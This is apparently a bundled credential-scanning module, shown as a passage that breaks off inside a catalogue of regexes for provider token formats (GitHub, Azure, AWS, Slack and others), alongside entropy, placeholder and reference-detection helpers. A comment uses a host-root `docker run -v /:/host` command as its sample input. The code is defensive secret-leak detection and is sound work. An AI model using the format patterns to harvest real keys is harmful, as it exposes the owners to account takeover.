export const id = 4556;
export const ids = [4556];
export const modules = {

/***/ 48338:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   t: () => (/* binding */ splitCommands),
/* harmony export */   y: () => (/* binding */ splitWords)
/* harmony export */ });
/**
 * Splits a command line into words as a POSIX shell does (quotes and backslashes resolved, nothing
 * expanded). For whole commands in one string: `"command": "docker run -v /:/host img"`.
 */
function splitWords(text) {
    return splitCommands(text, false)[0] ?? [];
}
/** Longer texts are no command lines that people wrote. */
const longest = 50_000;
/**
 * The commands of a short script, each as its words: separated by `;`, `&&`, `||`, `|`, `&` and
 * line breaks. With `operators` false everything is one command, and operators are words.
 */
function splitCommands(text, operators = true) {
    const commands = [];
    if (text.text.length > longest)
        return [[text]];
    let words = [];
    let pieces = [];
    let inWord = false;
    let quote = '';
    const source = text.text;
    const flush = () => {
        if (inWord)
            words.push(text.compose(pieces));
        pieces = [];
        inWord = false;
    };
    const push = (value, start, end) => {
        const last = pieces.at(-1);
        if (last &&
            last.end === start &&
            value.length === end - start &&
            last.text.length === last.end - last.start) {
            last.text += value;
            last.end = end;
        }
        else
            pieces.push({ text: value, start, end });
        inWord = true;
    };
    const endCommand = () => {
        flush();
        if (words.length > 0)
            commands.push(words);
        words = [];
    };
    for (let i = 0; i < source.length; i++) {
        const char = source[i];
        if (operators && quote === '' && /[;&|\n]/.test(char)) {
            // `2>&1` and `&>file` are redirections.
            if (char === '&' && (/[<>]/.test(source[i - 1] ?? '') || source[i + 1] === '>')) {
                push(char, i, i + 1);
                continue;
            }
            endCommand();
            continue;
        }
        if (char === '\\' && quote === '' && /[\r\n]/.test(source[i + 1] ?? '')) {
            // A line that goes on.
            i += source.startsWith('\r\n', i + 1) ? 2 : 1;
            flush();
            continue;
        }
        if (quote === '' && (char === ' ' || char === '\t' || char === '\n' || char === '\r'))
            flush();
        else if (char === quote)
            quote = '';
        else if (quote === '' && (char === '"' || char === "'")) {
            quote = char;
            inWord = true;
        }
        else if (char === '\\' && quote !== "'" && isEscaped(source[i + 1], quote)) {
            push(source[i + 1], i, i + 2);
            i++;
        }
        else
            push(char, i, i + 1);
    }
    endCommand();
    return commands;
}
/** Backslashes of Windows paths stay: only what a shell must quote is taken as escaped. */
function isEscaped(next, quote) {
    if (next === undefined)
        return false;
    return quote === '"' ? /["\\$`]/.test(next) : /[\s"'$`]/.test(next);
}
//# sourceMappingURL=words.js.map

/***/ }),

/***/ 36584:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   EZ: () => (/* binding */ looksRandom),
/* harmony export */   Gp: () => (/* binding */ isSequential),
/* harmony export */   Ue: () => (/* binding */ entropy),
/* harmony export */   Z9: () => (/* binding */ wordsOf),
/* harmony export */   gb: () => (/* binding */ hasRun),
/* harmony export */   lg: () => (/* binding */ looksLikeWords)
/* harmony export */ });
/** Shannon entropy in bits per character; 0 for the empty text. */
function entropy(text) {
    const counts = new Map();
    for (const character of text)
        counts.set(character, (counts.get(character) ?? 0) + 1);
    let length = 0;
    for (const count of counts.values())
        length += count;
    let bits = 0;
    for (const count of counts.values())
        bits -= (count / length) * Math.log2(count / length);
    return bits;
}
/** True for `123456`, `abcdef0123`, `aaaaaa`, `a1b2c3d4`: most characters follow from those before. */
function isSequential(text) {
    if (text.length < 6)
        return false;
    return [1, 2].some(step => {
        let steps = 0;
        for (let i = step; i < text.length; i++) {
            const difference = text.charCodeAt(i) - text.charCodeAt(i - step);
            if (difference === 0 || difference === 1)
                steps++;
        }
        return steps / (text.length - step) >= 0.55;
    });
}
/** True when one character is repeated `times` times in a row. */
function hasRun(text, times) {
    let run = 1;
    for (let i = 1; i < text.length; i++) {
        run = text[i] === text[i - 1] ? run + 1 : 1;
        if (run >= times)
            return true;
    }
    return false;
}
/** The words of an identifier or slug in lower case: `githubToken2` is `github`, `token`, `2`. */
function wordsOf(text) {
    return text
        .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
        .replace(/([A-Z])([A-Z][a-z])/g, '$1 $2')
        .replace(/([A-Za-z])([0-9])/g, '$1 $2')
        .replace(/([0-9])([A-Za-z])/g, '$1 $2')
        .toLowerCase()
        .split(/[^\p{L}\p{N}]+/u)
        .filter(word => word !== '');
}
/** The commonest pairs of letters of English and of the identifiers that are made of it. */
const commonPairs = new Set(`th he in er an re nd on en at ou ed ha to or it is hi es ng st nt ar te se me of le ve al de ra ti
  ri ro ic ll be ne ma co us ur ce ta ca li la el pe io ch di ec lo om ee ot so tr ac no ss em un fo
  na as ad ai am ag ab ap ay ba bl bo br ck cl cr ct cu da do ea ep et ev ex fe fi fr ge gr ho id ie
  if ig il im ir iv ke ki ld ly mo mp ni ns nc od og ok ol oo op os ow pa pl po pr rd rs rt ru sc sh
  si sp su tt ty ub uc ue ul um up ut vi we wh wi wo ry py ke ey gi ga tu bu du mi my`.split(/\s+/));
/**
 * True for text that reads like words, dates and versions between them: `claude-sonnet-4-20250514`,
 * `requiredCharacteristicTypes`, `my_first_server_v2`. Random text has few of the common pairs of
 * letters, and its digits stand anywhere.
 */
function looksLikeWords(text) {
    const runs = text.toLowerCase().match(/\p{L}+/gu) ?? [];
    let pairs = 0;
    let common = 0;
    for (const run of runs) {
        for (let i = 1; i < run.length; i++) {
            pairs++;
            if (commonPairs.has(run.slice(i - 1, i + 1)) || run.charCodeAt(i) > 127)
                common++;
        }
    }
    if (pairs >= 12 && camelShare(text) < 0.85)
        return false;
    if (pairs < 2 || common / pairs < (pairs < 8 ? 0.5 : 0.55))
        return false;
    const numbers = text.match(/[0-9]+/g)?.length ?? 0;
    const separators = text.match(/[-_.:/\s]+/g)?.length ?? 0;
    return numbers <= Math.max(1, separators);
}
/** The share of letters in words written small, large or camelCase: about half of random text. */
function camelShare(text) {
    const letters = text.match(/\p{L}/gu)?.length ?? 0;
    const words = text.match(/(?<!\p{L})\p{Lu}+(?!\p{Ll})|\p{Lu}?[^\P{L}\p{Lu}]{2,}/gu) ?? [];
    return words.join('').length / Math.max(1, letters);
}
/** True for text that nobody types: a key, a token, a hash. At least `length` characters. */
function looksRandom(text, length) {
    if (text.length < length || isSequential(text) || hasRun(text, 6))
        return false;
    const letters = /[A-Za-z]/.test(text);
    const digits = /[0-9]/.test(text);
    if (!letters)
        return false;
    if (digits)
        return entropy(text) >= 3 && !looksLikeWords(text);
    const mixed = /[a-z]/.test(text) && /[A-Z]/.test(text);
    return mixed && text.length >= 20 && entropy(text) >= 3.5 && !looksLikeWords(text);
}
//# sourceMappingURL=entropy.js.map

/***/ }),

/***/ 94520:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  UN: () => (/* reexport */ hasReference),
  pL: () => (/* reexport */ judgeSite),
  scan: () => (/* reexport */ scan),
  Gf: () => (/* reexport */ secret_name/* secretName */.G),
  HD: () => (/* reexport */ shownName),
  ri: () => (/* reexport */ withoutCredentials),
  Z9: () => (/* reexport */ entropy/* wordsOf */.Z9)
});

// UNUSED EXPORTS: isPlaceholder, judge

// EXTERNAL MODULE: ./build/shared/lint/credentials/entropy.js
var entropy = __webpack_require__(36584);
;// CONCATENATED MODULE: ./build/shared/lint/credentials/placeholder.js

/** Words that make the text around them a placeholder. */
const telling = new Set(`your yours yourself example examples placeholder changeme change replace replaceme insert enter fill paste todo
  fixme tbd dummy fake sample redacted masked removed hidden omitted obfuscated undefined unset notset
  notneeded unused whatever foobar lorem ipsum here goes needed
  votre deine ihre mein meine twoj ваш твой вашего`
    .split(/\s+/)
    .filter(Boolean));
/** Short words for `your` in other languages, and for nothing: telling only as a first word. */
const tellingStart = /^(?:my|your|tu|tus|su|sus|vos|ton|dein|ihr|seu|sua|mon|ma|mi|foo|bar|baz|the|an?|some|any)[_-]|^(?:你的|您的|あなたの|あなた)/i;
/** Words of which placeholders and throw-away values are made; all words must be among them. */
const plain = new Set(`a an the my some any this is it of for to in on no not new old super very top real local default
  secret secrets token tokens key keys api apikey password passwd passphrase pass pwd pw passw pa word
  credential credentials auth authorization bearer basic access client app application user username
  login admin administrator root guest test tests testing tester tst demo dev devel development prod
  production staging stage ci build value val string text data id none null nil empty true false yes
  off optional required private public personal shared master main primary secondary service
  server db database postgres postgresql psql mysql mariadb mongo mongodb redis rabbitmq rabbit minio
  minioadmin sqlserver sa neo neo4j elastic elasticsearch kibana grafana keycloak odoo ollama
  lm studio lmstudio openai anthropic azure aws google gcp github gitlab slack notion figma supabase
  stripe linear jira confluence atlassian docker npm pypi hf huggingface brave tavily firecrawl exa
  context perplexity groq sk pk pat ghp gho ghs mcp agent model llm gpt claude gemini cursor
  url uri host hostname port name email path file project org organization team company acme contoso
  fabrikam tenant account number code hash salt seed session cookie jwt oauth oidc sso webhook bot
  random long strong safe secure insecure unsafe weak dont use anything something mock stub fixture x xx xxx
  abc abcd xyz asdf qwerty hello world letmein welcome postgrespassword mypassword mysecret testtest
  minimum characters chars please set me with from as env var variable local only example`
    .split(/\s+/)
    .filter(Boolean));
/**
 * True for text that stands for a credential without being one: `YOUR_API_KEY`, `<token>`, `xxxx`,
 * `sk-...`, `changeme`, `my-secret-token`, `tu_token`, `SUPABASE_ACCESS_TOKEN`.
 */
function isPlaceholder(value) {
    const text = value.trim();
    if (text === '' || !/[\p{L}\p{N}]/u.test(text))
        return true;
    if (/\.\.\.|…|\*{3,}|•{2,}|_{4,}|-{6,}|\?{3,}|#{3,}/.test(text))
        return true;
    if (/^[<[{(].*[>\]})]$/s.test(text) || /<[\p{L}][\p{L}\p{N} _./-]*>/u.test(text))
        return true;
    if (/(?:^|[^A-Za-z0-9])[xX]{3,}(?:$|[^A-Za-z0-9])|[xX]{5,}|^[xX]+$/.test(text))
        return true;
    if (/^(?:[0-]+|00000000-0000-0000-0000-000000000000)$/.test(text))
        return true;
    if (/%[sdv]|%\([a-z_]+\)s/.test(text) && text.length < 40)
        return true;
    // The name of a variable in the place of its value.
    if (/^[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+$/.test(text) && !/[0-9]{5}/.test(text)) {
        const words = text.split('_');
        if (words.every(word => word.length <= 14) && words.some(word => /^[A-Z]{3,}$/.test(word)))
            return true;
    }
    if (/(?<![a-z])your?s?(?=[A-Z_-]|api|key|token|secret|pass)/i.test(text))
        return true;
    if (/change[-_ ]?(?:me|this|it)|replace[-_ ]?(?:me|this|with)|placeholder|redacted|example/i.test(text))
        return true;
    if (tellingStart.test(text))
        return true;
    const words = (0,entropy/* wordsOf */.Z9)(text);
    if (words.some(word => telling.has(word)))
        return true;
    const rest = words.filter(word => !/^[0-9]{1,4}$/.test(word) && !((0,entropy/* isSequential */.Gp)(word) && /^[0-9]+$/.test(word)));
    return rest.every(word => plain.has(word));
}
/**
 * True when the variable part of a provider's token was made up: `ghp_xxxxxxxx`, `AKIA…EXAMPLE`,
 * `sk-ant-api03-...`, an alphabet, one character repeated. Random text practically never is.
 */
function isMadeUp(body) {
    if (body.length >= 12 && (0,entropy/* isSequential */.Gp)(body))
        return true;
    if ((0,entropy/* hasRun */.gb)(body, 7) || /x{5,}/i.test(body))
        return true;
    if (/example|placeholder|redacted|changeme|replace.?me|your[-_]|_here$|-here$|dummy/i.test(body))
        return true;
    if (body.length <= 80 && /your|xxxx|0{6}|123456789|abcdefgh/i.test(body))
        return true;
    return body.length >= 16 && (new Set(body).size < 6 || (0,entropy/* entropy */.Ue)(body.slice(0, 300)) < 2.3);
}
/** Passwords that everyone knows: of databases in tests and of products as they are delivered. */
function isWellKnownPassword(value) {
    const text = value.trim().toLowerCase();
    if (/^(?:p[a@]ssw[o0]rd|pass|secret|admin|root|test|guest|postgres|mysql|example)[0-9!@#]{0,4}$/.test(text))
        return true;
    return isPlaceholder(value);
}
//# sourceMappingURL=placeholder.js.map
;// CONCATENATED MODULE: ./build/shared/lint/credentials/reference.js
/**
 * References to values that stand elsewhere, in every dialect that configuration files, pipelines,
 * shells and templates use. Every repetition is bounded.
 */
const parts = [
    /\$\{\{[\s\S]{0,1000}?\}\}/, // GitHub and Azure template expressions, Continue secrets
    /\$\[[^\]]{1,400}\]/, // Azure Pipelines runtime expressions
    /\$\([^()]{1,400}\)/, // Azure Pipelines macros, command substitution
    /\$\{[^{}]{1,400}\}/, // ${VAR}, ${env:VAR}, ${input:id}, ${VAR:-default}, ${var.x}
    /\$\{[A-Za-z_]\w*[:!?+-]{1,2}\$\{[^{}]{1,200}\}\}/, // ${A:-${B}}
    /\$env:[A-Za-z_]\w*/i, // PowerShell
    /\$input:[\w.-]+/, // nobody's dialect, but no literal either
    /(?<![A-Za-z0-9])\$[A-Za-z_]\w*/, // $VAR
    /%[A-Za-z_][A-Za-z0-9_()]{0,100}%/, // cmd
    /![A-Za-z_]\w{0,100}!/, // cmd, delayed expansion
    /\{(?:env|file|input|secret|secrets|vault|cred)[:.][^{}]{1,300}\}/, // opencode and kin
    /\{\{[\s\S]{0,400}?\}\}/, // Mustache, Jinja, Helm, LibreChat
    /<%[\s\S]{0,400}?%>/, // ERB, EJS
    /#\{[^{}]{1,200}\}#?/, // token replacement, Ruby
    /@\{[^{}]{1,200}\}/, // Logic Apps and Data Factory expressions
    /(?<!\w)__[A-Za-z][A-Za-z0-9_]{1,100}__(?!\w)/, // token replacement
    /(?<!\w)process\.env\.\w+/,
    /(?<!\w)os\.(?:environ|getenv)\b[^\s,;]{0,100}/
];
const anyReference = new RegExp(parts.map(part => part.source).join('|'), 'i');
const everyReference = new RegExp(anyReference.source, 'gi');
/** Values that are a reference as a whole: store addresses, template functions, encrypted text. */
const wholeReference = new RegExp([
    String.raw `^(?:op|vault|bao|keyring|keychain|secret|secrets|ssm|gsm|gcpsm|awssm|akv|keyvault|doppler|infisical|bws|env|file|cmd|sops|ref\+[a-z]+)(?:://|:)\S+$`,
    String.raw `^@Microsoft\.(?:KeyVault|AppConfiguration)\(`,
    String.raw `^arn:aws[\w-]*:(?:secretsmanager|ssm|kms):`,
    '^projects/[^/]+/secrets/',
    String.raw `^https://[a-z0-9-]+\.vault\.(?:azure\.net|azure\.cn|usgovcloudapi\.net)/`,
    String.raw `^ENC\[`,
    String.raw `^\$ANSIBLE_VAULT`,
    String.raw `^!(?:Ref|Sub|GetAtt|secret|env|vault|reference)\b`,
    String.raw `^\[[\s\S]*\]$`, // ARM template expressions
    String.raw `^(?:secrets|vars|env|inputs|steps|needs|github|var|local|data|module|each|self|parameters|variables|azurerm_\w+|aws_\w+|google_\w+)(?:\.[\w-]+|\['[\w-]+'\])+$`,
    String.raw `^(?:parameters|variables|reference|listKeys|getSecret|secretValue|keyVault)\(`,
    String.raw `^@[\w./\\~-]+$` // @file
].join('|'));
/** A reference is looked for in the beginning of longer values. */
const longestValue = 8192;
/** True when the value is, or has inside it, a reference in any dialect. */
function hasReference(value) {
    const text = value.slice(0, longestValue).trim();
    return anyReference.test(text) || wholeReference.test(text);
}
/** The literal default of `${NAME:-default}`, when the value is such a reference as a whole. */
function defaultOfReference(value) {
    const match = /^\s*\$\{(?:env:)?[A-Za-z_]\w*:?[-=]([^{}$]{1,400})\}\s*$/.exec(value);
    if (!match)
        return undefined;
    return { start: value.lastIndexOf(match[1]), text: match[1] };
}
/** The value without its references: what is literally there. */
function withoutReferences(value) {
    return value.replace(everyReference, '');
}
//# sourceMappingURL=reference.js.map
// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
;// CONCATENATED MODULE: ./build/shared/lint/credentials/documented.js

/**
 * Credentials that vendors publish for emulators and examples, as SHA-256: they open nothing, and
 * in clear they would set off the scanners of whoever reads this file.
 */
const documented = new Set([
    '0011cc25eb4320717494d2703e8cba85743e71b500283c21c8b88147992f9059', // Azurite and the storage emulator
    'aa6547439583c3a275d4542a0df6c1ad6a863971be9f2a2220f027cc02aef615', // Azure Cosmos DB emulator
    '2cafc0970149a84f3b9e62eaf169f36f59907a3b3e31f7b82e68c69cd27f7326', // Stripe documentation
    'f2d6ca16515033e5dce14eba840b979d27b5cbae24bb3e5bf484339667f86397' // Stripe documentation, older
]);
/** True for a credential that its vendor documents as an example or as an emulator's fixed key. */
function isDocumentedExample(secret) {
    return documented.has((0,external_node_crypto_.createHash)('sha256').update(secret).digest('hex'));
}
/**
 * True for a token that is public by design or an example: Supabase's `anon` key and its local
 * development keys, the token on the first page of jwt.io.
 */
function isPublicJwt(token) {
    const payload = token.split('.')[1] ?? '';
    if (payload.length > 4096)
        return false;
    let claims;
    try {
        claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
    }
    catch {
        return false;
    }
    if (typeof claims !== 'object' || claims === null)
        return false;
    const { iss, role, sub, name } = claims;
    if (iss === 'supabase-demo' || (iss === 'supabase' && role === 'anon'))
        return true;
    return sub === '1234567890' && typeof name === 'string';
}
//# sourceMappingURL=documented.js.map
;// CONCATENATED MODULE: ./build/shared/lint/credentials/formats.js




/**
 * A token begins at the text's beginning, after a character that is no part of a word, or after an
 * escape of JSON (`\n`, `\u0022`) or of a URL (`%20`) whose last letter would look like one.
 */
const left = String.raw `(?:(?<![A-Za-z0-9_])|(?<=\\[nrtbf])|(?<=\\u[0-9A-Fa-f]{4})|(?<=%[0-9A-Fa-f]{2}))`;
const base64 = 'A-Za-z0-9+/';
const notAfter = (characters) => `(?<![${characters}])`;
const notBefore = (characters) => `(?![${characters}])`;
const uuid = '[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}';
/** A format with a fixed beginning. `body` is what follows, as a regular expression's source. */
function prefixed(id, name, prefixes, body, options = {}) {
    const list = typeof prefixes === 'string' ? [prefixes] : prefixes;
    const alternatives = list.map(prefix => prefix.replace(/[.+*?^$()[\]{}|\\]/g, '\\$&')).join('|');
    return {
        id,
        name,
        confidence: options.confidence ?? 'high',
        anchors: list.map(keyword => ({ keyword, lead: 0 })),
        pattern: new RegExp(`${options.left ?? left}(?:${alternatives})${body}`, 'y'),
        prefix: commonPrefix(list),
        accept: (secret, text, offset) => {
            const prefix = list.find(candidate => secret.startsWith(candidate)) ?? '';
            return (!isMadeUp(secret.slice(prefix.length)) &&
                !isDocumentedExample(secret) &&
                (options.accept?.(secret, text, offset) ?? true));
        }
    };
}
/** A format with a fixed mark inside; `lead` characters stand before the mark. */
function marked(id, name, anchors, pattern, options = {}) {
    return {
        id,
        name,
        confidence: options.confidence ?? 'high',
        anchors,
        pattern: new RegExp(pattern, 'y'),
        prefix: '',
        accept: (secret, text, offset) => !isMadeUp(secret) &&
            !isDocumentedExample(secret) &&
            (options.accept?.(secret, text, offset) ?? true)
    };
}
function commonPrefix(list) {
    let prefix = list[0];
    for (const entry of list)
        while (!entry.startsWith(prefix))
            prefix = prefix.slice(0, -1);
    return prefix;
}
const hasDigit = (secret) => /[0-9]/.test(secret);
const notWords = (secret) => !(0,entropy/* looksLikeWords */.lg)(secret.slice(secret.search(/[_-]/) + 1));
const random = (secret) => (0,entropy/* entropy */.Ue)(secret) >= 3.2 && notWords(secret);
/**
 * Known credential formats. Sources are the providers' documentation of their token formats, and
 * where a provider is silent, shapes on which several open scanners agree.
 */
const formats = [
    // Source control and CI
    prefixed('github-pat-classic', 'GitHub personal access token (classic)', 'ghp_', '[A-Za-z0-9_]{36,251}'),
    prefixed('github-pat-fine-grained', 'GitHub fine-grained personal access token', 'github_pat_', '[A-Za-z0-9_]{82,244}'),
    prefixed('github-oauth', 'GitHub OAuth token', 'gho_', '[A-Za-z0-9_]{36,251}'),
    prefixed('github-user-to-server', 'GitHub user-to-server token', 'ghu_', '[A-Za-z0-9_]{36,251}'),
    prefixed('github-refresh', 'GitHub refresh token', 'ghr_', '[A-Za-z0-9_]{36,251}'),
    prefixed('github-installation', 'GitHub installation token', 'ghs_', String.raw `(?:[0-9]{1,20}_[A-Za-z0-9_-]{10,1000}\.[A-Za-z0-9_-]{10,2000}\.[A-Za-z0-9_-]{10,1000}|[A-Za-z0-9]{36,251})`),
    prefixed('gitlab-token', 'GitLab token', [
        'glpat-',
        'glrt-',
        'glptt-',
        'glcbt-',
        'gldt-',
        'glagent-',
        'glffct-',
        'glft-',
        'glimt-',
        'gloas-',
        'glsoat-'
    ], '[A-Za-z0-9_.-]{20,320}'),
    prefixed('bitbucket-app-password', 'Bitbucket app password', 'ATBB', '[A-Za-z0-9_=-]{24,40}', {
        accept: hasDigit
    }),
    prefixed('buildkite-token', 'Buildkite token', ['bkua_', 'bkaa_'], `[0-9a-f]{40}${notBefore('0-9a-f')}`),
    prefixed('circleci-token', 'CircleCI personal token', 'CCIPAT_', '[A-Za-z0-9]{20,24}_[0-9a-f]{40}'),
    prefixed('pulumi-token', 'Pulumi access token', 'pul-', `[0-9a-f]{40}${notBefore('0-9a-f')}`),
    marked('terraform-cloud', 'HCP Terraform token', [{ keyword: '.atlasv1.', lead: 14 }], String.raw `${notAfter('A-Za-z0-9')}[A-Za-z0-9]{14}\.atlasv1\.[A-Za-z0-9_=-]{60,70}`),
    prefixed('sourcegraph-token', 'Sourcegraph token', 'sgp_', '(?:(?:[0-9a-f]{16}|local)_)?[0-9a-f]{40}'),
    // Microsoft and Azure
    marked('entra-client-secret', 'Microsoft Entra client secret', [{ keyword: 'Q~', lead: 4 }], String.raw `${notAfter(String.raw `A-Za-z0-9_~.\-+/`)}[A-Za-z0-9_~.\-]{3}[0-9]Q~[A-Za-z0-9_~.\-]{31,34}${notBefore(String.raw `A-Za-z0-9_~\-+/`)}`),
    marked('azure-devops-pat', 'Azure DevOps personal access token', [{ keyword: 'AZDO', lead: 76 }], `${notAfter('A-Za-z0-9')}[A-Za-z0-9]{52}JQQJ9[9DH][A-Za-z0-9][A-L][A-Za-z0-9]{16}AZDO[A-Za-z0-9]{4}${notBefore('A-Za-z0-9')}`),
    marked('azure-cask-key', 'Azure service key', [{ keyword: 'JQQJ9', lead: 52 }], `${notAfter('A-Za-z0-9')}[A-Za-z0-9]{52}JQQJ9[9DH][A-Za-z0-9][A-L][A-Za-z0-9]{16}[A-Za-z][A-Za-z0-9]{7}(?:[A-Za-z0-9]{2}==)?${notBefore('A-Za-z0-9')}`),
    marked('azure-storage-key', 'Azure storage account key', [{ keyword: '+ASt', lead: 76 }], `${notAfter(base64)}[${base64}]{76}[+]ASt[${base64}]{5}[AQgw]==`),
    {
        id: 'azure-account-key',
        name: 'Azure Cosmos DB connection string',
        confidence: 'high',
        anchors: [{ keyword: 'AccountEndpoint=', lead: 0 }],
        pattern: new RegExp(`AccountEndpoint=[^\\s;"']{8,200};[ ]?AccountKey=([${base64}]{86}==)`, 'y'),
        prefix: '',
        accept: secret => !isMadeUp(secret) && !isDocumentedExample(secret)
    },
    {
        id: 'azure-storage-conn',
        name: 'Azure storage connection string',
        confidence: 'high',
        anchors: [{ keyword: 'AccountKey=', lead: 0 }],
        pattern: new RegExp(`AccountKey=([${base64}]{86}==)`, 'y'),
        prefix: '',
        accept: secret => !isMadeUp(secret) && !isDocumentedExample(secret)
    },
    {
        id: 'azure-sas',
        name: 'Azure shared access signature',
        confidence: 'medium',
        anchors: [{ keyword: 'sig=', lead: 1 }],
        pattern: /[?&;]sig=([A-Za-z0-9%+/]{43,129}(?:=|%3[dD]))/y,
        prefix: '',
        accept: (secret, text, offset) => {
            if (isMadeUp(secret))
                return false;
            const around = text.slice(Math.max(0, offset - 1000), offset + secret.length + 500);
            return /[?&;]s[vrtpe]=/.test(around);
        }
    },
    marked('azure-cosmos-key', 'Azure Cosmos DB key', [{ keyword: 'ACDb', lead: 76 }], `${notAfter(base64)}[${base64}]{76}ACDb[${base64}]{5}[AQgw]==`),
    marked('azure-messaging-key', 'Azure Service Bus, Event Hubs or Relay key', [
        { keyword: '+ASb', lead: 33 },
        { keyword: '+AEh', lead: 33 },
        { keyword: '+ARm', lead: 33 }
    ], `${notAfter(base64)}[${base64}]{33}[+]A(?:Sb|Eh|Rm)[A-P][${base64}]{5}=`),
    {
        id: 'azure-shared-access-key',
        name: 'Azure shared access key',
        confidence: 'high',
        anchors: [{ keyword: 'SharedAccessKey=', lead: 0 }],
        pattern: new RegExp(`SharedAccessKey=([${base64}]{43}=)`, 'y'),
        prefix: '',
        accept: secret => !isMadeUp(secret) && !isDocumentedExample(secret)
    },
    marked('azure-apim-key', 'Azure API Management key', [{ keyword: 'APIM', lead: 76 }], `${notAfter(base64)}[${base64}]{76}APIM[${base64}]{5}[AQgw]==`),
    marked('azure-function-key', 'Azure Functions key', [{ keyword: 'AzFu', lead: 44 }], `${notAfter('A-Za-z0-9_-')}[A-Za-z0-9_-]{44}AzFu[A-Za-z0-9_-]{5}[AQgw]==`),
    marked('azure-search-key', 'Azure AI Search key', [{ keyword: 'AzSe', lead: 42 }], `${notAfter('A-Za-z0-9+/_-')}[A-Za-z0-9]{42}AzSe[A-D][A-Za-z0-9]{5}${notBefore('A-Za-z0-9')}`),
    marked('azure-acr-key', 'Azure Container Registry key', [{ keyword: '+ACR', lead: 42 }], `${notAfter(base64)}[${base64}]{42}[+]ACR[A-D][${base64}]{5}${notBefore(base64)}`),
    prefixed('teams-webhook', 'Microsoft Teams webhook address', 'webhook.office.com/webhookb2/', '[0-9a-f@-]{60,80}/IncomingWebhook/[0-9a-f]{32}/[0-9a-f-]{36}', { left: String.raw `(?<=[a-z0-9-]\.)` }),
    // Other clouds
    {
        id: 'aws-access-key-id',
        name: 'AWS access key id',
        confidence: 'high',
        anchors: ['AKIA', 'ASIA', 'ABIA', 'ACCA'].map(keyword => ({ keyword, lead: 0 })),
        pattern: new RegExp(`${left}(?:AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}${notBefore('A-Za-z0-9_')}`, 'y'),
        prefix: 'A',
        accept: secret => !/EXAMPLE|XXXX/.test(secret) && hasDigit(secret) && !isMadeUp(secret.slice(4))
    },
    prefixed('aws-bedrock-key', 'Amazon Bedrock API key', 'ABSK', '[A-Za-z0-9+/]{109,269}={0,2}'),
    prefixed('google-api-key', 'Google API key', 'AIza', `[0-9A-Za-z_-]{35}${notBefore('0-9A-Za-z_-')}`),
    prefixed('google-gemini-aq', 'Google Gemini API key', 'AQ.Ab', '[0-9A-Za-z_-]{40,60}'),
    prefixed('google-oauth-client-secret', 'Google OAuth client secret', 'GOCSPX-', `[A-Za-z0-9_-]{28}${notBefore('A-Za-z0-9_-')}`),
    prefixed('google-oauth-access-token', 'Google OAuth access token', 'ya29.', '[A-Za-z0-9_-]{60,1000}'),
    prefixed('digitalocean-token', 'DigitalOcean token', ['dop_v1_', 'doo_v1_', 'dor_v1_'], `[0-9a-f]{64}${notBefore('0-9a-f')}`),
    prefixed('cloudflare', 'Cloudflare token', ['cfk_', 'cfut_', 'cfat_'], `[A-Za-z0-9]{40}[0-9a-f]{8}${notBefore('A-Za-z0-9')}`),
    prefixed('vercel', 'Vercel token', ['vcp_', 'vci_', 'vca_', 'vcr_', 'vck_'], `[A-Za-z0-9_-]{20,60}${notBefore('A-Za-z0-9_-')}`, { accept: random }),
    prefixed('fly-token', 'Fly.io token', ['FlyV1 fm1', 'FlyV1 fm2'], '[a-z]?_[A-Za-z0-9+/=,_-]{60,2000}'),
    prefixed('render-key', 'Render API key', 'rnd_', `[A-Za-z0-9]{28,40}${notBefore('A-Za-z0-9')}`, {
        accept: random
    }),
    prefixed('tailscale', 'Tailscale key', 'tskey-', '[a-z]{2,20}-[A-Za-z0-9]{8,40}-[A-Za-z0-9]{16,60}'),
    prefixed('databricks', 'Databricks token', 'dapi', `[0-9a-f]{32}(?:-[0-9])?${notBefore('0-9a-fA-F')}`),
    // Secret stores
    prefixed('vault', 'HashiCorp Vault token', ['hvs.', 'hvb.', 'hvr.'], '[A-Za-z0-9_-]{90,300}'),
    prefixed('onepassword-sa', '1Password service account token', 'ops_ey', '[A-Za-z0-9+/_-]{100,1300}={0,2}'),
    prefixed('doppler-token', 'Doppler token', ['dp.pt.', 'dp.st.', 'dp.ct.', 'dp.sa.', 'dp.scim.', 'dp.audit.'], '(?:[a-z0-9_-]{2,35}[.])?[A-Za-z0-9]{40,44}'),
    prefixed('age-secret-key', 'age secret key', 'AGE-SECRET-KEY-1', '[QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L]{58}'),
    // Packages and containers
    prefixed('npm-token', 'npm access token', 'npm_', `[A-Za-z0-9]{36}${notBefore('A-Za-z0-9_')}`, {
        accept: notWords
    }),
    prefixed('pypi-token', 'PyPI API token', 'pypi-AgE', '[A-Za-z0-9_-]{50,1000}'),
    prefixed('nuget-key', 'NuGet API key', 'oy2', `[a-z2-7]{43}${notBefore('a-z0-9')}`, {
        left: notAfter('A-Za-z0-9')
    }),
    prefixed('rubygems-key', 'RubyGems API key', 'rubygems_', `[0-9a-f]{48}${notBefore('0-9a-f')}`),
    prefixed('docker-token', 'Docker access token', ['dckr_pat_', 'dckr_oat_'], '[A-Za-z0-9_-]{27,32}'),
    // Messaging and work
    prefixed('slack-token', 'Slack token', [
        'xoxa-',
        'xoxb-',
        'xoxc-',
        'xoxe-',
        'xoxo-',
        'xoxp-',
        'xoxr-',
        'xoxs-',
        'xoxe.xoxb-',
        'xoxe.xoxp-'
    ], '[A-Za-z0-9-]{10,250}', {
        accept: secret => hasDigit(secret) && secret.length >= 20 && !(0,entropy/* looksLikeWords */.lg)(secret.slice(5))
    }),
    prefixed('slack-app-token', 'Slack app-level token', 'xapp-', '[0-9]-[A-Z0-9]{6,20}-[0-9]{8,20}-[a-f0-9]{40,128}'),
    prefixed('slack-webhook', 'Slack webhook address', [
        'https://hooks.slack.com/services/',
        'https://hooks.slack.com/workflows/',
        'https://hooks.slack.com/triggers/'
